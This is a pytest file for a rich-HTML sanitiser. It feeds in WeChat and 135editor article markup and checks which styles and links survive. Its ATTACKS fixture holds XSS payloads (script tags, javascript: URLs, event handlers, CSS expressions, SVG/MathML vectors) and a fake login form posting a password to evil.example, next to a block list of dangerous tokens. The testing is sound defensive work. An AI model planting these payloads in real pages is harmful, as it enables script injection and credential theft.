"""The rich-HTML sanitiser (ORG-05) against what people really paste: a WeChat article (sections and spans
with inline styles, lazy data-src images, mp classes) and a Xiumi / 135editor block (nested sections with
borders, backgrounds, transforms), and the attacks that must never survive."""
import re

import pytest

from app.content.sanitizer import plain_text, sanitize_rich_html

WECHAT = """<div class="rich_media_content js_underline_content autoTypeSetting24psection" id="js_content"
 style="visibility: visible;"><section style="margin: 0px 8px; line-height: 1.75em; visibility: visible;
 box-sizing: border-box;" data-mpa-powered-by="yiban.io"><p style="margin-bottom: 0px; letter-spacing: 0.578px;
 text-align: center; visibility: visible;"><span style="font-size: 18px; color: rgb(0, 82, 255);
 font-weight: bold; font-family: mp-quote, -apple-system-font, BlinkMacSystemFont, &quot;PingFang SC&quot;;
 visibility: visible;">北京校友会2026年新春联谊会</span></p><p style="text-indent: 2em; text-align: justify;">
<span style="font-size: 15px; color: rgb(62, 62, 62);">1月18日，北京校友会在中关村举办新春联谊会，
<strong>三百余位校友</strong>欢聚一堂。</span></p><p style="text-align: center;">
<img class="rich_pages wxw-img js_insertlocalimg" data-ratio="0.6666667"
 data-s="300,640" data-src="https://mmbiz.qpic.cn/mmbiz_jpg/AbCdEf123/640?wx_fmt=jpeg&amp;from=appmsg" data-type="jpeg"
 data-w="1080" style="width: 100% !important; height: auto !important; visibility: visible !important;"
 src="data:image/svg+xml,%3C%3Fxml version='1.0' encoding='UTF-8'%3F%3E%3Csvg width='1px' height='1px'%3E%3C/svg%3E"
 _width="677px" crossorigin="anonymous" alt="图片"></p><mpvoice frameborder="0" class="res_iframe js_editor_audio"
 voice_encode_fileid="MzA4" name="校歌"></mpvoice><p style="text-align: center;"><span style="font-size: 12px;
 color: rgb(136, 136, 136);">（图为联谊会现场）</span></p><p><a href="https://mp.weixin.qq.com/s/XyZ" target="_blank"
 data-linktype="2" class="weui-wa-hotarea">阅读往期回顾</a></p></section><mp-style-type data-value="3"></mp-style-type>
</div>"""

XIUMI = """<section data-role="outer" label="edit by 135editor" style="font-family: 微软雅黑;"><section
 class="_135editor" data-tools="135编辑器" data-id="94580" style="border: 0px none; box-sizing: border-box;">
<section style="margin: 10px auto; display: flex; justify-content: center; transform: rotate(0deg);
 -webkit-transform: rotate(0deg);"><section style="display: inline-block; width: 90%;
 border: 2px solid rgb(255, 129, 36);
 border-radius: 12px; background-color: rgb(254, 246, 238); padding: 15px; box-sizing: border-box;
 box-shadow: rgb(255, 129, 36) 4px 4px 0px; position: relative; z-index: 2; transform: rotateZ(-2deg);
 background-image: url(&quot;https://img.135editor.com/bg.png&quot;);" data-width="90%"><section
 style="font-size: 16px; color: rgb(255, 129, 36); text-align: center; letter-spacing: 2px;"><strong>活动报名</strong>
</section><section style="font-size: 14px; color: rgb(63, 63, 63); line-height: 1.75em; margin-top: 8px;">
<p>报名截止：<span style="color: rgb(255, 0, 0);">1月10日</span></p></section></section></section>
<section style="width: 40px; height: 40px; opacity: 0.5; position: absolute; top: -10px; left: -10px;
 background: rgb(255, 129, 36); border-radius: 50%;"><br></section></section></section>"""

ATTACKS = """<p>正文开始</p><script>alert('xss')</script>
<a href="javascript:alert(1)">点我</a> <a href=" JaVaScRiPt:alert(2)">再点</a> <a href="vbscript:msgbox(1)">vb</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据</a>
<img src="x" onerror="alert(3)"><img src="https://ok.example/a.png" onload="alert(4)" alt="合法图片">
<p style="color: red; background: url(javascript:alert(5)); width: expression(alert(6))">样式攻击</p>
<p style="behavior: url(x.htc); color: blue">htc</p><p style="background-image: url('https://evil/x.png')">背景</p>
<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999">覆盖层</div>
<svg><script>alert(7)</script><a xlink:href="javascript:alert(8)"><text>svg</text></a></svg>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">
<form action="https://evil.example/steal"><input name="password"><button>登录</button></form>
<style>body { display: none }</style><!-- <script>alert(9)</script> -->
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<p onclick="alert(10)" onmouseover="alert(11)">事件属性</p><math><mi xlink:href="javascript:alert(12)">m</mi></math>
<p>正文结束</p>"""


def _styles(html: str) -> list[str]:
    return re.findall(r'style="([^"]*)"', html)


@pytest.mark.req("ORG-05")
def test_a_wechat_article_stays_readable():
    out = sanitize_rich_html(WECHAT)
    # the text, its emphasis and its layout survive
    assert "北京校友会2026年新春联谊会" in out and "<strong>三百余位校友</strong>" in out and "阅读往期回顾" in out
    assert "color:rgb(0, 82, 255)" in out and "font-size:18px" in out and "text-align:center" in out
    assert "text-indent:2em" in out and "line-height:1.75em" in out
    # the lazy image gets its real address; the SVG placeholder is gone
    assert '<img src="https://mmbiz.qpic.cn/mmbiz_jpg/AbCdEf123/640?wx_fmt=jpeg&amp;from=appmsg"' in out
    assert "svg" not in out and "data-src" not in out and 'alt="图片"' in out
    # WeChat's classes, ids, data-* and visibility tricks are dropped; the link is kept safely
    assert "class=" not in out and "id=" not in out and "data-" not in out and "visibility" not in out
    assert '<a href="https://mp.weixin.qq.com/s/XyZ" target="_blank" rel="noopener noreferrer">' in out
    assert "mpvoice" not in out and "mp-style-type" not in out and "font-family" not in out
    assert plain_text(out).startswith("北京校友会2026年新春联谊会 1月18日")


@pytest.mark.req("ORG-05")
def test_a_xiumi_135editor_block_keeps_borders_and_colours_but_not_transforms():
    out = sanitize_rich_html(XIUMI)
    assert out.count("<section") == 7 and "活动报名" in out and "报名截止" in out and "1月10日" in out
    box = next(s for s in _styles(out) if "border:2px solid" in s)
    assert "border-radius:12px" in box and "background-color:rgb(254, 246, 238)" in box and "padding:15px" in box
    assert "display:inline-block" in box and "width:90%" in box and "box-sizing:border-box" in box
    for gone in ("transform", "position", "z-index", "box-shadow", "opacity", "url(", "background-image", "135editor",
                 "data-", "class=", "label="):
        assert gone not in out, gone
    assert "display:flex" in out and "background:rgb(255, 129, 36)" in out  # a colour-only shorthand is fine


@pytest.mark.req("ORG-05")
def test_attacks_are_neutralised_and_the_text_around_them_kept():
    out = sanitize_rich_html(ATTACKS)
    lowered = out.lower()
    for bad in ("<script", "alert", "javascript:", "vbscript:", "data:text", "onerror", "onload", "onclick",
                "onmouseover", "url(", "expression", "behavior", "<svg", "<iframe", "<object", "<embed", "<form",
                "<input", "<button", "<style", "<math", "<!--", "position", "z-index", "xlink", "image/svg"):
        assert bad not in lowered, bad
    assert "正文开始" in out and "正文结束" in out and "样式攻击" in out and "事件属性" in out and "覆盖层" in out
    assert '<img src="https://ok.example/a.png" alt="合法图片">' in out
    assert '<p style="color:red">样式攻击</p>' in out and '<p style="color:blue">htc</p>' in out
    assert "点我" in out and "登录" not in out  # a link's text stays; a form goes with its content


@pytest.mark.req("ORG-05")
def test_safe_urls_and_images():
    out = sanitize_rich_html('<img src="data:image/png;base64,iVBORw0KGgo="><img src="/media/content/photos/1/display">'
                             '<a href="/h5/news/3">站内</a><a href="mailto:a@b.cn">邮件</a><img src="ftp://x/y.png">')
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out and 'src="/media/content/photos/1/display"' in out
    assert 'href="/h5/news/3"' in out and "ftp:" not in out and "mailto" not in out
    assert sanitize_rich_html("") == "" and sanitize_rich_html("   ") == ""
    assert plain_text("<p>a&amp;b</p><p>c&nbsp;d</p>", limit=4) == "a&b…"
